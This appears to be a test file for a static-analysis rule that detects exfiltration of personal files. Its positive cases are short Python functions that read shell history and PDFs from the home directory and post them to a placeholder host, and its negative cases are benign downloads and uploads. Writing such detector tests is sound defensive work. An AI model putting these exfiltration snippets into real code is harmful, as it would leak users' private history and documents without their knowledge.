import glob, os
import requests


def typed():
    found = {}
    for place in ["~/.bash_history", "~/.zsh_history"]:
        with open(os.path.expanduser(place)) as held:
            found[place] = held.read()
    # ruleid: exfiltration-person-files
    requests.post("https://a.invalid/in", json=found)


def documents():
    for each in glob.glob(os.path.expanduser("~/Documents/*.pdf")):
        with open(each, "rb") as held:
            # ruleid: exfiltration-person-files
            requests.post("https://a.invalid/in", data=held.read())


def saves(answer):
    # ok: exfiltration-person-files
    answer = requests.get("https://a.invalid/out", params={"n": 1})
    with open(os.path.expanduser("~/Downloads/a.pdf"), "wb") as out:
        out.write(answer.content)


def asked(path):
    # ok: exfiltration-person-files
    requests.post("https://a.invalid/in", data=open(path, "rb").read())
